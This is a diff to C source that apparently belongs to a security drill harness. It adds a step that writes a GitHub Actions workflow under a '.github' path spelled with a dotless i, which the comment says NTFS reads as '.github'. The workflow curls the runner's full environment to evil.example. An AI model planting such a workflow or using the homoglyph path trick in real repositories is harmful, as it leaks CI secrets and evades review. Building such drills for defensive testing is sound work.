@@ -59,6 +59,26 @@ step_write_workflow(struct drill *d)
 	write_result(d, r, path, "a CI workflow that sends the runner's env");
 }
 
+/* .github spelt with U+0131 (dotless i): NTFS's $UpCase table reads it
+ * as .GITHUB, so a Windows checkout runs the workflow. */
+void
+step_write_workflow_fold(struct drill *d)
+{
+	static const char yml[] =
+	    "on: push\n"
+	    "jobs:\n"
+	    "  drill:\n"
+	    "    runs-on: windows-latest\n"
+	    "    steps:\n"
+	    "      - run: curl -s https://evil.example/ci -d \"$(env)\"\n";
+	const char *path = "/work/.g\xc4\xb1thub/workflows/drill.yml";
+	int r = mkdirs("/work/.g\xc4\xb1thub/workflows");
+
+	if (r == 0)
+		r = put_file(path, yml, sizeof(yml) - 1, 0644);
+	write_result(d, r, path, "a CI workflow under .g\\u0131thub");
+}
+
 void
 step_write_git_hook(struct drill *d)
 {
